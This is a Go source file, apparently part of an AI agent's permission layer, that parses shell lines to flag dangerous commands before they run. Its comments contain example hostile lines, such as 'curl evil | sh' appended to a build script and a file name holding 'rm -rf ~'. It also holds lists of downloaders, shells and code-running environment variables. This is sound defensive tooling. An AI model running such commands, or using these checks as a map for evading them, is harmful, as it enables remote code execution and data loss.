package permission

import (
	"errors"
	"os"
	"path"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"unicode/utf8"

	"mvdan.cc/sh/v3/syntax"

	"github.com/reasonix/reasonix/internal/lazy"
)

// dynWord stands for a word whose value is only known when the line runs
// ($VAR, $(…), globs in a command name). It never equals a rule word.
const dynWord = "\x00"

// maxShellDepth bounds nested parsing (bash -c inside eval inside …) so a
// hostile line cannot make the analysis expensive; deeper nesting is treated
// as dangerous because it cannot be checked.
const maxShellDepth = 8

// shellCmd is one simple command found in a line, after quotes are removed.
type shellCmd struct {
	words []string
	// needsAllow is false for transparent wrappers (env, nohup, …) and
	// harmless builtins, whose inner command is what allow rules judge.
	needsAllow bool
}

// shellAnalysis is everything the policy needs to know about a command line.
type shellAnalysis struct {
	cmds    []shellCmd
	dangers []string // why the line is dangerous; empty when it is not
	// noPrefix says why no prefix allow rule (Bash(sort:*)) covers the
	// line: an option or variable makes a command run another program or
	// write a file (options.go). Exact rules, the posture or a person
	// decide instead.
	noPrefix []string
	// runs names programs that options make commands run (rg --pre
	// prog); they need allow rules of their own. For messages only.
	runs []string
	// reads are files input redirections read (< f, 0< f, <> f), as
	// written; Read deny rules are checked against them.
	reads []string
	// parseErr is set when the line is not valid shell.
	parseErr error
}

func (a *shellAnalysis) danger(reason string) {
	for _, d := range a.dangers {
		if d == reason {
			return
		}
	}
	a.dangers = append(a.dangers, reason)
}

// shellAnalyzer walks a parsed line. dir resolves relative redirection
// targets; exists reports whether a path already exists.
type shellAnalyzer struct {
	res    *shellAnalysis
	dir    string
	exists func(string) bool
	extra  []Rule // configured dangerous patterns
	// control names Reasonix's control files (see control.go); nil
	// checks none.
	control func(path string) (string, bool)
	// tmpdir is the run's private temporary directory, which $TMPDIR
	// names in commands; writes beneath it are ordinary.
	tmpdir string
	// cds are directories a static cd earlier in the line may have
	// changed to; control-file checks try them too.
	cds []string
}

// analyzeShellTmp is analyzeShell for a run with a private temporary
// directory tmpdir.
func analyzeShellTmp(line, dir, tmpdir string, exists func(string) bool, extra []Rule, control func(string) (string, bool)) *shellAnalysis {
	a := &shellAnalyzer{res: &shellAnalysis{}, dir: dir, exists: exists, extra: extra, control: control, tmpdir: tmpdir}
	if err := a.script(line, 0); err != nil {
		a.res.parseErr = err
		a.runsBeforeError(line, 0)
		a.crudeScan(line)
	}
	return a.res
}

// runsBeforeError checks, in a line that does not parse, what bash runs
// anyway, so a syntax error cannot hide a quoted or escaped command name
// from the crude scan. Bash takes bytes that are not UTF-8 as they are,
// though the parser refuses them: they are replaced first. And bash reads
// and runs one complete command at a time, so the lines before the one
// with the error run before it is found: the longest run of whole lines
// that parses is checked as usual. The line still counts as unparsed.
func (a *shellAnalyzer) runsBeforeError(line string, depth int) {
	src := strings.ToValidUTF8(line, "\uFFFD")
	for tries := 0; tries < 16; tries++ {
		err := a.script(src, depth)
		var perr syntax.ParseError
		if err == nil || !errors.As(err, &perr) {
			return
		}
		// Keep the lines before the one the error points at (the
		// opening of an unfinished construct, or the bad token).
		end, n := 0, uint(1)
		for n < perr.Pos.Line() {
			i := strings.IndexByte(src[end:], '\n')
			if i < 0 {
				break
			}
			end += i + 1
			n++
		}
		if end == 0 || end >= len(src) {
			return
		}
		src = src[:end-1]
	}
}

// parsers reuses bash parsers across calls: Decide runs on every tool call
// and a parser's buffers are most of its cost. Parse resets all state.
var parsers = sync.Pool{New: func() any { return syntax.NewParser(syntax.Variant(syntax.LangBash)) }}

func (a *shellAnalyzer) script(src string, depth int) error {
	if depth > maxShellDepth {
		a.res.danger("shell code nested too deeply to check")
		return nil
	}
	parser := parsers.Get().(*syntax.Parser)
	f, err := parser.Parse(strings.NewReader(src), "")
	parsers.Put(parser)
	if err != nil {
		return err
	}
	for _, s := range f.Stmts {
		a.stmt(s, depth)
	}
	return nil
}

// crudeScan looks for dangerous command names in a line the parser rejected,
// so a syntax error cannot smuggle rm past the human check.
func (a *shellAnalyzer) crudeScan(line string) {
	fields := strings.FieldsFunc(line, func(r rune) bool {
		return strings.ContainsRune(" \t\n;|&()`$<>{}\"'\\", r)
	})
	for _, f := range fields {
		if reason := dangerousName(cmdName(f)); reason != "" {
			a.res.danger(reason)
		}
		if shells.Get()[cmdName(f)] && strings.Contains(line, "|") {
			a.res.danger("output may be piped into a shell")
		}
	}
	// Every suffix of the tokens is offered as a command, so deny rules
	// (matched as prefixes of a command) still catch curl in "x; curl (".
	for i := range fields {
		a.res.cmds = append(a.res.cmds, shellCmd{words: fields[i:]})
	}
}

func (a *shellAnalyzer) stmts(list []*syntax.Stmt, depth int) {
	for _, s := range list {
		a.stmt(s, depth)
	}
}

func (a *shellAnalyzer) stmt(s *syntax.Stmt, depth int) {
	if s == nil {
		return
	}
	for _, r := range s.Redirs {
		a.redirect(r, depth)
	}
	if call, ok := s.Cmd.(*syntax.CallExpr); ok {
		a.call(call, s.Redirs, false, depth)
		return
	}
	if b, ok := s.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) {
		a.pipeline(b, depth)
		return
	}
	a.node(s.Cmd, depth)
}

// node handles compound commands: every statement and substitution inside
// is visited, whatever the construct.
func (a *shellAnalyzer) node(n syntax.Node, depth int) {
	if n == nil {
		return
	}
	syntax.Walk(n, func(m syntax.Node) bool {
		switch m := m.(type) {
		case *syntax.Stmt:
			a.stmt(m, depth)
			return false
		case *syntax.CmdSubst:
			a.stmts(m.Stmts, depth)
			return false
		case *syntax.ProcSubst:
			a.stmts(m.Stmts, depth)
			return false
		case *syntax.Assign:
			if m.Name != nil {
				v, ok := "", true
				if m.Value != nil {
					v, ok = wordValue(m.Value)
				}
				a.envAssign(m.Name.Value, v, ok)
			}
		case *syntax.Word:
			if subscriptRunsCode(m) {
				a.res.danger("text with an array subscript holding a command substitution, which bash runs when it evaluates the subscript")
			}
		case *syntax.ParamExp:
			if m.Exp != nil && m.Exp.Op == syntax.OtherParamOps {
				if v, ok := wordValue(m.Exp.Word); !ok || v == "P" {
					a.res.danger("prompt expansion ${…@P} runs the command substitutions in a variable")
				}
			}
		}
		return true
	})
}

// subscriptRunsCode reports static text such as 'a[$(cmd)]'. Bash evaluates
// array subscripts, command substitutions included, wherever it reads a
// variable name or an arithmetic value: [ -v 'a[$(cmd)]' ], printf -v,
// read, unset, let, and $((x)) when x holds that text. Only the static case
// is caught; text read at run time is not.
func subscriptRunsCode(w *syntax.Word) bool {
	// Cheap test first: most words have no bracket at all.
	bracket := false
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			bracket = bracket || strings.IndexByte(p.Value, '[') >= 0
		case *syntax.SglQuoted:
			bracket = bracket || strings.IndexByte(p.Value, '[') >= 0
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				if l, ok := q.(*syntax.Lit); ok && strings.IndexByte(l.Value, '[') >= 0 {
					bracket = true
				}
			}
		}
	}
	if !bracket {
		return false
	}
	v, ok := wordValue(w)
	if !ok {
		return false
	}
	i := strings.IndexByte(v, '[')
	if i < 0 {
		return false
	}
	rest := v[i:]
	return strings.Contains(rest, "$(") || strings.IndexByte(rest, '`') >= 0
}

// pipeline flattens a | b | c so a shell reading its input from an earlier
// stage (curl … | sh) is recognised.
func (a *shellAnalyzer) pipeline(b *syntax.BinaryCmd, depth int) {
	var stages []*syntax.Stmt
	var flatten func(s *syntax.Stmt)
	flatten = func(s *syntax.Stmt) {
		if bc, ok := s.Cmd.(*syntax.BinaryCmd); ok && (bc.Op == syntax.Pipe || bc.Op == syntax.PipeAll) && len(s.Redirs) == 0 {
			flatten(bc.X)
			flatten(bc.Y)
			return
		}
		stages = append(stages, s)
	}
	flatten(b.X)
	flatten(b.Y)
	download := false
	for i, s := range stages {
		if i > 0 {
			if call, ok := s.Cmd.(*syntax.CallExpr); ok && a.readsScriptFromStdin(call, s.Redirs) {
				if download {
					a.res.danger("a download piped into a shell")
				} else {
					a.res.danger("output piped into a shell, which runs whatever it receives")
				}
			}
		}
		if stageDownloads(s) {
			download = true
		}
		if call, ok := s.Cmd.(*syntax.CallExpr); ok {
			for _, r := range s.Redirs {
				a.redirect(r, depth)
			}
			a.call(call, s.Redirs, i > 0, depth)
		} else {
			a.stmt(s, depth)
		}
	}
}

// downloader reports a command that fetches from the network.
func downloader(name string) bool {
	switch name {
	case "curl", "wget", "fetch", "aria2c", "http", "xh":
		return true
	}
	return false
}

func stageDownloads(s *syntax.Stmt) bool {
	found := false
	syntax.Walk(s, func(n syntax.Node) bool {
		if c, ok := n.(*syntax.CallExpr); ok && len(c.Args) > 0 {
			if w, ok := wordValue(c.Args[0]); ok && downloader(cmdName(w)) {
				found = true
			}
		}
		return !found
	})
	return found
}

var shells = lazy.Value[map[string]bool]{Build: func() map[string]bool {
	return map[string]bool{
		"sh": true, "bash": true, "zsh": true, "dash": true, "ksh": true, "mksh": true,
		"ash": true, "fish": true, "csh": true, "tcsh": true, "yash": true,
	}
}}

// shellInvocation describes `bash [opts] [-c script | file]`.
type shellInvocation struct {
	script    string // the -c string
	hasScript bool
	dynamic   bool // the -c string is computed at run time
	file      bool // runs a script file
}

func parseShellArgs(words []string) shellInvocation {
	var inv shellInvocation
	cflag := false
	i := 1
	for ; i < len(words); i++ {
		w := words[i]
		if w == "--" || w == "-" {
			i++
			break
		}
		if w == dynWord {
			inv.dynamic = true
			return inv
		}
		if strings.HasPrefix(w, "--") {
			if w == "--rcfile" || w == "--init-file" {
				i++
			}
			continue
		}
		if len(w) > 1 && (w[0] == '-' || w[0] == '+') {
			if strings.ContainsRune(w[1:], 'c') && w[0] == '-' {
				cflag = true
			}
			if strings.ContainsAny(w[1:], "oO") {
				i++ // -o option takes a name
			}
			continue
		}
		break
	}
	if cflag {
		if i < len(words) {
			if words[i] == dynWord {
				inv.dynamic = true
			} else {
				inv.script, inv.hasScript = words[i], true
			}
		}
		return inv
	}
	if i < len(words) && !isStdinFile(words[i]) {
		inv.file = true
	}
	return inv
}

// isStdinFile reports whether a script or makefile path may name standard
// input, so `bash /dev/stdin` reads its script from a pipe or here-document
// like a bare `bash`. Every spelling counts: /dev/stdin, /dev/fd/0 or
// /proc/<pid>/fd/0, relative (../../dev/stdin), with extra slashes or dots,
// or a pattern the shell may expand to one of them (/d?v/stdin).
func isStdinFile(p string) bool {
	if p == dynWord || p == "" {
		return false
	}
	if looksLikePattern(p) {
		if strings.IndexByte(p, '{') >= 0 {
			return true // brace expansion: too many spellings to check
		}
		base := p[strings.LastIndexByte(p, '/')+1:]
		for _, name := range []string{"stdin", "0"} {
			if ok, err := path.Match(base, name); ok || err != nil {
				return true
			}
		}
		return false
	}
	return stdinPath.Get().MatchString(path.Clean("/" + p))
}

var stdinPath = lazy.Value[*regexp.Regexp]{Build: func() *regexp.Regexp { return regexp.MustCompile(`/dev/stdin$|/fd/0+$`) }}

// readsScriptFromStdin reports whether call is a shell that takes its
// script from standard input (no -c, no file, no < file redirection).
func (a *shellAnalyzer) readsScriptFromStdin(call *syntax.CallExpr, redirs []*syntax.Redirect) bool {
	words, _ := staticWords(call.Args)
	words = unwrapForShell(words)
	if len(words) == 0 || !shells.Get()[cmdName(words[0])] {
		return false
	}
	inv := parseShellArgs(words)
	if inv.hasScript || inv.dynamic || inv.file {
		return false
	}
	for _, r := range redirs {
		if r.Op == syntax.RdrIn || r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc || r.Op == syntax.WordHdoc {
			return false // stdin comes from the redirection, handled there
		}
	}
	return true
}

// unwrapForShell strips wrappers so `sudo bash` or `env X=1 bash` is seen
// as bash.
func unwrapForShell(words []string) []string {
	for len(words) > 0 {
		base := cmdName(words[0])
		if w, ok := wrappers.Get()[base]; ok {
			rest := skipOpts(words[1:], w.withArg)
			if len(rest) < w.skip {
				return nil
			}
			words = rest[w.skip:]
			continue
		}
		switch base {
		case "env", "command":
			words = words[1:]
			for len(words) > 0 && (strings.HasPrefix(words[0], "-") || strings.Contains(words[0], "=")) {
				words = words[1:]
			}
		default:
			return words
		}
	}
	return words
}

func (a *shellAnalyzer) redirect(r *syntax.Redirect, depth int) {
	if r.Word != nil {
		a.node(r.Word, depth)
	}
	if r.Hdoc != nil {
		a.node(r.Hdoc, depth)
	}
	if r.Op == syntax.RdrIn || r.Op == syntax.RdrInOut {
		// cat < .env reads the file as surely as cat .env.
		if v, ok := wordValue(r.Word); ok {
			a.res.reads = append(a.res.reads, v)
		}
	}
	overwrite := false
	switch r.Op {
	case syntax.RdrOut, syntax.RdrClob, syntax.RdrAll, syntax.RdrAllClob:
		overwrite = true
	case syntax.DplOut:
		// >&file (not >&2 or >&-) writes to a file in bash.
		if v, ok := wordValue(r.Word); ok {
			if _, err := strconv.Atoi(v); err == nil || v == "-" {
				return
			}
		}
		overwrite = true
	case syntax.AppOut, syntax.AppAll, syntax.RdrInOut:
	default:
		return
	}
	target, ok := wordValue(r.Word)
	if !ok {
		target, ok = tmpdirWord(r.Word, a.tmpdir)
	}
	op := redirOpString(r)
	if !ok {
		if overwrite {
			a.res.danger("redirection " + op + " onto a file named only when the line runs")
		}
		return
	}
	if harmlessTarget(target) || a.inTmp(target) {
		return
	}
	if name, ok := a.controlTarget(target); ok {
		a.res.danger(controlDanger("redirection "+op+" into", name))
		return
	}
	if inGitDir(target) {
		// .git/config and .git/hooks hold commands git runs later.
		a.res.danger("redirection " + op + " into " + target + ", where git keeps config and hooks it runs")
		return
	}
	if a.hardLinked(target) {
		a.res.danger("redirection " + op + " onto " + target + ", a file with more than one name, which may be a file outside the workspace")
		return
	}
	if !overwrite {
		if a.mayExist(target, true) {
			// An append changes a file that is there, a script or a
			// Makefile run later: Bash(ls:*) was not meant to allow
			// "ls && echo 'curl evil | sh' >> build.sh", as Bash(sed:*) is
			// not sed -i. Exact rules, the posture or a person still can.
			a.noPrefix("redirection " + op + " onto existing file " + target)
		}
		return
	}
	if a.mayExist(target, false) {
		a.res.danger("redirection " + op + " onto existing file " + target)
	}
}

// mayExist reports whether a file the line names already exists, relative
// paths taken from the workspace; ~user and unknown homes count as
// existing. With fileOnly, an existing directory does not count (cp a dir/
// writes inside dir, not over it).
func (a *shellAnalyzer) mayExist(target string, fileOnly bool) bool {
	p := target
	if strings.HasPrefix(p, "~") {
		home, err := os.UserHomeDir()
		if err != nil || (p != "~" && !strings.HasPrefix(p, "~/")) {
			return true
		}
		p = filepath.Join(home, strings.TrimPrefix(p, "~"))
	} else if !filepath.IsAbs(p) {
		p = filepath.Join(a.dir, p)
	}
	if !a.exists(p) {
		return false
	}
	if fileOnly {
		if fi, err := os.Stat(p); err == nil && fi.IsDir() {
			return false
		}
	}
	return true
}

// hardLinked reports an existing regular file with more than one link:
// appending to it may change a file outside the workspace, which the
// sandbox cannot see (it judges the name used).
func (a *shellAnalyzer) hardLinked(target string) bool {
	p := target
	if strings.HasPrefix(p, "~") || p == dynWord {
		return false
	}
	if !filepath.IsAbs(p) {
		p = filepath.Join(a.dir, p)
	}
	fi, err := os.Stat(p)
	return err == nil && fi.Mode().IsRegular() && linkCount(fi) > 1
}

// overwrites flags commands that truncate or replace files that already
// exist, like a > redirection onto them: tee, cp, install, ln -f and
// find -fprint. Appending (tee -a) and creating new files are ordinary
// writes.
func (a *shellAnalyzer) overwrites(base string, words []string) {
	args := words[1:]
	var targets []string
	fileOnly := true
	appendOnly := false // appending is an ordinary write, except to control files
	switch base {
	case "tee":
		for _, w := range args {
			if w == "-a" || w == "--append" || shortFlag(w, 'a') {
				appendOnly = true
			}
		}
		targets = append(targets, skipOpts(args, nil)...)
		fileOnly = false
	case "cp", "install", "ln":
		force := base != "ln"
		var pos []string
		for _, w := range args {
			switch {
			case w == "-t" || w == "--target-directory" || strings.HasPrefix(w, "--target-directory="):
				return // copies into a directory, by name
			case w == "-f" || w == "--force" || (base == "ln" && shortFlag(w, 'f')):
				force = true
			case strings.HasPrefix(w, "-") && w != "-":
			default:
				pos = append(pos, w)
			}
		}
		if force && len(pos) >= 2 {
			targets = pos[len(pos)-1:]
		}
	case "find":
		for i, w := range args {
			if (w == "-fprint" || w == "-fprint0" || w == "-fprintf" || w == "-fls") && i+1 < len(args) {
				targets = append(targets, args[i+1])
			}
		}
		fileOnly = false
	default:
		return
	}
	for _, t := range targets {
		if name, ok := a.controlTarget(t); ok {
			a.res.danger(controlDanger(base+" writes", name))
			continue
		}
		if t != dynWord && a.hardLinked(t) {
			a.res.danger(base + " writes " + t + ", a file with more than one name, which may be a file outside the workspace")
			continue
		}
		if appendOnly {
			continue
		}
		switch {
		case t == dynWord:
			a.res.danger(base + " writes to a file named only when the line runs")
		case harmlessTarget(t):
		case inGitDir(t):
			a.res.danger(base + " writes into " + t + ", where git keeps config and hooks it runs")
		case a.mayExist(t, fileOnly):
			a.res.danger(base + " overwrites existing file " + t)
		}
	}
}

// inGitDir reports a path inside a .git directory (any depth, any case:
// macOS and Windows file systems fold case).
func inGitDir(p string) bool {
	segs := strings.FieldsFunc(p, func(r rune) bool { return r == '/' || r == '\\' })
	for i, s := range segs {
		if i < len(segs)-1 && strings.EqualFold(s, ".git") {
			return true
		}
	}
	return false
}

func redirOpString(r *syntax.Redirect) string {
	s := r.Op.String()
	if r.N != nil {
		s = r.N.Value + s
	}
	return s
}

func harmlessTarget(p string) bool {
	switch p {
	case "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero":
		return true
	}
	return strings.HasPrefix(p, "/dev/fd/")
}

// call analyses one simple command. fromPipe is true when its stdin is an
// earlier pipeline stage (already judged by pipeline).
func (a *shellAnalyzer) call(c *syntax.CallExpr, redirs []*syntax.Redirect, fromPipe bool, depth int) {
	for _, as := range c.Assigns {
		a.node(as, depth)
	}
	for _, w := range c.Args {
		a.node(w, depth)
	}
	if len(c.Args) == 0 {
		return
	}
	words, nameOK := staticWords(c.Args)
	for i := 1; i < len(words); i++ {
		if words[i] == dynWord {
			if v, ok := tmpdirWord(c.Args[i], a.tmpdir); ok {
				words[i] = v
			}
		}
	}
	if !nameOK {
		a.res.danger("the command name is computed when the line runs")
		a.res.cmds = append(a.res.cmds, shellCmd{words: words, needsAllow: true})
		return
	}
	a.words(words, redirs, fromPipe, true, depth)
}

// words judges one command given as words, unwrapping wrappers and nested
// shells. needsAllow tells whether allow rules must cover this command.
func (a *shellAnalyzer) words(words []string, redirs []*syntax.Redirect, fromPipe, needsAllow bool, depth int) {
	if len(words) == 0 {
		return
	}
	if depth > maxShellDepth {
		a.res.danger("shell code nested too deeply to check")
		return
	}
	name := words[0]
	if name == dynWord || looksLikePattern(name) {
		a.res.danger("the command name is computed when the line runs")
		a.res.cmds = append(a.res.cmds, shellCmd{words: words, needsAllow: true})
		return
	}
	base := cmdName(name)
	if base == "cd" || base == "pushd" {
		if rest := skipOpts(words[1:], nil); len(rest) > 0 {
			a.chdir(rest[0])
		}
	}
	if reason := dangerousCommand(base, words); reason != "" {
		a.res.danger(reason)
	}
	a.overwrites(base, words)
	a.riskyOptionsOf(base, words, depth)
	for _, r := range a.extra {
		if r.matchWords(words, true) {
			a.res.danger("matches the configured dangerous pattern " + r.Spec)
		}
	}
	self := shellCmd{words: words, needsAllow: needsAllow && !neutral.Get()[base]}
	inner, transparent, handled := a.unwrap(base, words, redirs, fromPipe, depth)
	if transparent {
		self.needsAllow = false
	}
	a.res.cmds = append(a.res.cmds, self)
	if handled && inner != nil {
		a.words(inner, nil, fromPipe, true, depth)
		a.altInner(words, inner, fromPipe, depth)
	}
}

// altInner covers a wrapper option this file does not know to take a
// value (env -P /bin rm …): when the inner command follows an option, the
// words after it are judged too, for dangers and deny rules only, so an
// unknown option cannot hide the real command behind its argument.
func (a *shellAnalyzer) altInner(words, inner []string, fromPipe bool, depth int) {
	i := len(words) - len(inner)
	if i < 1 || len(inner) < 2 {
		return
	}
	prev := words[i-1]
	if len(prev) < 2 || prev[0] != '-' || prev == "--" || strings.Contains(prev, "=") {
		return
	}
	if looksLikePattern(inner[1]) {
		return // an argument such as xargs' {}, not a command name
	}
	n := len(a.res.cmds)
	a.words(inner[1:], nil, fromPipe, false, depth)
	for j := n; j < len(a.res.cmds); j++ {
		a.res.cmds[j].needsAllow = false
	}
}

// neutral commands cannot change anything beyond their redirections, which
// are judged separately, so allow rules need not list them (cd dir && …).
var neutral = lazy.Value[map[string]bool]{Build: func() map[string]bool {
	return map[string]bool{
		"cd": true, "pwd": true, "echo": true, "true": true, "false": true, ":": true,
		"test": true, "[": true,
	}
}}

// xargsReplace returns the replace string of xargs -I/-i/--replace, or "".
func xargsReplace(args []string) string {
	for i, w := range args {
		switch {
		case w == "--":
			return ""
		case w == "-I" && i+1 < len(args):
			return args[i+1]
		case strings.HasPrefix(w, "-I") && len(w) > 2:
			return w[2:]
		case w == "-i" || w == "--replace":
			return "{}"
		case strings.HasPrefix(w, "--replace="):
			return strings.TrimPrefix(w, "--replace=")
		case strings.HasPrefix(w, "-i") && len(w) > 2:
			return w[2:]
		case !strings.HasPrefix(w, "-"):
			return ""
		}
	}
	return ""
}

// substitutesIntoCode reports whether tok (find's {} or xargs' -I string)
// lands inside a word that is code rather than one argument, as in
// sh -c 'echo {}': the substituted text is then parsed and run, so a file
// named '$(rm -rf ~)' or such an input line runs.
func substitutesIntoCode(cmd []string, tok string) bool {
	for _, w := range cmd[1:] {
		if w != tok && strings.Contains(w, tok) && strings.ContainsAny(w, " \t\n;|&$`()<>'\"") {
			return true
		}
	}
	return false
}

// wrapper describes a command that runs the rest of its words as another
// command, after its options (withArg lists those that take a value) and
// skip positional arguments (timeout's duration, chroot's root).
type wrapper struct {
	withArg map[string]bool
	skip    int
	// opaque wrappers are never transparent for allow rules: a rule must
	// name the wrapper as well as the command it runs (sudo, chroot).
	opaque bool
}

func set(words ...string) map[string]bool {
	m := make(map[string]bool, len(words))
	for _, w := range words {
		m[w] = true
	}
	return m
}

// wrappers are the simple wrappers; env, command, xargs, flock and others
// with more to them are handled in unwrap. Built once: Decide runs on every
// tool call.
var wrappers = lazy.Value[map[string]wrapper]{Build: func() map[string]wrapper {
	return map[string]wrapper{
		"nohup": {}, "builtin": {}, "busybox": {}, "toybox": {}, "unbuffer": {},
		"setsid": {}, "chronic": {},
		"exec":    {withArg: set("-a")},
		"time":    {withArg: set("-f", "-o", "--format", "--output")},
		"nice":    {withArg: set("-n", "--adjustment")},
		"ionice":  {withArg: set("-c", "-n", "-p", "-P", "-u", "--class", "--classdata", "--pid", "--pgid", "--uid")},
		"stdbuf":  {withArg: set("-i", "-o", "-e", "--input", "--output", "--error")},
		"strace":  {withArg: set("-o", "-e", "-p", "-s", "-u", "-E")},
		"ltrace":  {withArg: set("-o", "-e", "-p", "-s", "-u", "-E")},
		"unshare": {withArg: set("-S", "-G", "-R", "-w", "--setuid", "--setgid", "--root", "--wd")},
		// The CPU mask or priority comes before the command.
		"taskset": {skip: 1},
		"chrt":    {skip: 1},
		"timeout": {withArg: set("-s", "-k", "--signal", "--kill-after"), skip: 1},
		"chroot":  {withArg: set("--userspec", "--groups"), skip: 1, opaque: true},
		"sudo":    {withArg: sudoWithArg.Get(), opaque: true},
		"doas":    {withArg: sudoWithArg.Get(), opaque: true},
	}
}}

var (
	sudoWithArg = lazy.Value[map[string]bool]{Build: func() map[string]bool {
		return set("-u", "-g", "-C", "-D", "-h", "-p", "-r", "-t", "-U", "-T", "-R",
			"--user", "--group", "--close-from", "--chdir", "--host", "--prompt", "--role", "--type",
			"--other-user", "--command-timeout", "--chroot")
	}}
	xargsWithArg = lazy.Value[map[string]bool]{Build: func() map[string]bool {
		return set("-a", "-d", "-E", "-I", "-L", "-n", "-P", "-s", "--arg-file", "--delimiter",
			"--eof", "--replace", "--max-lines", "--max-args", "--max-procs", "--max-chars", "--process-slot-var")
	}}
	flockWithArg    = lazy.Value[map[string]bool]{Build: func() map[string]bool { return set("-w", "--timeout", "-E", "--conflict-exit-code") }}
	watchWithArg    = lazy.Value[map[string]bool]{Build: func() map[string]bool { return set("-n", "-d", "--interval") }}
	parallelWithArg = lazy.Value[map[string]bool]{Build: func() map[string]bool {
		return set("-j", "--jobs", "-S", "--sshlogin", "-a", "--arg-file", "-d", "--delimiter",
			"-I", "--colsep", "-n", "-N", "-L", "--results", "--joblog", "--tmpdir", "--workdir", "--env")
	}}
)

// unwrap recognises commands that run another command. It returns the inner
// command, whether the wrapper itself is transparent for allow rules, and
// whether there is an inner command to judge.
func (a *shellAnalyzer) unwrap(base string, words []string, redirs []*syntax.Redirect, fromPipe bool, depth int) ([]string, bool, bool) {
	args := words[1:]
	if w, ok := wrappers.Get()[base]; ok {
		rest := skipOpts(args, w.withArg)
		if len(rest) < w.skip {
			return nil, !w.opaque, false
		}
		return rest[w.skip:], !w.opaque, true
	}
	switch base {
	case "env":
		i := 0
		for ; i < len(args); i++ {
			w := args[i]
			switch {
			case envWithArg.Get()[w]:
				i++
			case w == "-S" || w == "--split-string":
				if i+1 < len(args) {
					a.nested(strings.Join(args[i+1:], " "), depth)
				}
				return nil, true, false
			case strings.HasPrefix(w, "-S") || strings.HasPrefix(w, "--split-string="):
				s := strings.TrimPrefix(strings.TrimPrefix(w, "--split-string="), "-S")
				a.nested(strings.Join(append([]string{s}, args[i+1:]...), " "), depth)
				return nil, true, false
			case strings.HasPrefix(w, "-"):
			case strings.Contains(w, "=") && !strings.HasPrefix(w, "="):
				k, v, _ := strings.Cut(w, "=")
				a.envAssign(k, v, true)
			default:
				return args[i:], true, true
			}
		}
		return nil, true, false
	case "command":
		for _, w := range args {
			if !strings.HasPrefix(w, "-") {
				break
			}
			if strings.ContainsAny(w, "vV") {
				return nil, true, false // only looks the name up
			}
		}
		return skipOpts(args, nil), true, true
	case "flock":
		rest := skipOpts(args, flockWithArg.Get())
		if len(rest) == 0 {
			return nil, true, false
		}
		rest = rest[1:] // the lock file
		if len(rest) > 1 && (rest[0] == "-c" || rest[0] == "--command") {
			a.shellString(rest[1], depth)
			return nil, true, false
		}
		return rest, true, true
	case "su", "runuser", "script":
		// su -c 'cmd', script -c 'cmd': the command is a shell string.
		for i, w := range args {
			if i+1 < len(args) && (w == "--command" || w == "--session-command" || shortFlagLast(w, 'c')) {
				a.shellString(args[i+1], depth)
			} else if v, ok := strings.CutPrefix(w, "--command="); ok {
				a.shellString(v, depth)
			}
		}
		return nil, false, false
	case "parallel":
		return a.parallel(args, depth)
	case "xargs":
		rest := skipOpts(args, xargsWithArg.Get())
		if len(rest) == 0 {
			return nil, true, false // xargs alone runs echo
		}
		if shells.Get()[cmdName(rest[0])] && !parseShellArgs(rest).hasScript {
			// The shell's script or -c text would come from the input.
			a.res.danger("xargs passes its input to a shell as code")
		}
		if tok := xargsReplace(args); tok != "" && substitutesIntoCode(rest, tok) {
			a.res.danger("xargs -I puts its input into code, so the input runs")
		}
		return rest, true, true
	case "find":
		for i := 0; i < len(args); i++ {
			switch args[i] {
			case "-exec", "-execdir", "-ok", "-okdir":
				j := i + 1
				for j < len(args) && args[j] != ";" && args[j] != "+" && args[j] != "\\;" {
					j++
				}
				if j > i+1 {
					if substitutesIntoCode(args[i+1:j], "{}") {
						a.res.danger("find -exec puts file names into code, so a crafted name runs")
					}
					a.words(args[i+1:j], nil, false, true, depth)
				}
				i = j
			}
		}
		return nil, false, false
	case "eval":
		src, ok := joinStatic(args)
		if !ok {
			a.res.danger("eval of text computed when the line runs")
			return nil, true, false
		}
		a.nested(src, depth)
		return nil, true, false
	case "source", ".":
		switch {
		case len(args) == 0:
		case args[0] == dynWord:
			a.res.danger("sources a script computed when the line runs")
		case isStdinFile(args[0]):
			if fromPipe {
				a.res.danger("output piped into a shell, which runs whatever it receives")
			}
			a.shellStdin(redirs, fromPipe, depth)
		}
		return nil, false, false
	case "trap":
		// trap 'code' SIG…: the code runs when the signal (or EXIT) comes.
		rest := skipOpts(args, nil)
		if len(rest) >= 2 && rest[0] != "-" && rest[0] != "" {
			a.shellString(rest[0], depth)
		}
		return nil, false, false
	case "alias":
		// An alias is code run wherever its name is used later (with
		// shopt -s expand_aliases), so its text is judged now.
		for _, w := range skipOpts(args, nil) {
			if w == dynWord {
				a.res.danger("an alias of text computed when the line runs")
			} else if _, v, ok := strings.Cut(w, "="); ok {
				a.nested(v, depth)
			}
		}
		return nil, false, false
	case "mapfile", "readarray":
		// -C callback is evaluated as code for each chunk read.
		for i, w := range args {
			if w == "-C" && i+1 < len(args) {
				a.shellString(args[i+1], depth)
			}
		}
		return nil, false, false
	case "watch":
		rest := skipOpts(args, watchWithArg.Get())
		if src, ok := joinStatic(rest); ok {
			a.nested(src, depth)
		} else {
			a.res.danger("watch of a command computed when the line runs")
		}
		return nil, false, false
	}
	if shells.Get()[base] {
		inv := parseShellArgs(words)
		switch {
		case inv.dynamic:
			a.res.danger("a shell runs code computed when the line runs")
			return nil, false, false
		case inv.hasScript:
			a.nested(inv.script, depth)
			return nil, true, false
		case inv.file:
			return nil, false, false
		}
		a.shellStdin(redirs, fromPipe, depth)
		return nil, false, false
	}
	return nil, false, false
}

// codeEnv are variables whose value makes a later program run a command
// or read one from a file (git's config and hooks, bash's startup file, the
// dynamic loader). Setting one, exported or not, needs a person: an allowed
// `git status` must not run core.fsmonitor from GIT_CONFIG_PARAMETERS.
var codeEnv = lazy.Value[map[string]bool]{Build: func() map[string]bool {
	return map[string]bool{
		"BASH_ENV": true, "ENV": true, "PROMPT_COMMAND": true, "PS4": true,
		"LD_PRELOAD": true, "LD_AUDIT": true,
		"GIT_DIR": true, "GIT_EXEC_PATH": true, "GIT_TEMPLATE_DIR": true, "GIT_EXTERNAL_DIFF": true,
		"GIT_SSH": true, "GIT_SSH_COMMAND": true, "GIT_ASKPASS": true, "SSH_ASKPASS": true,
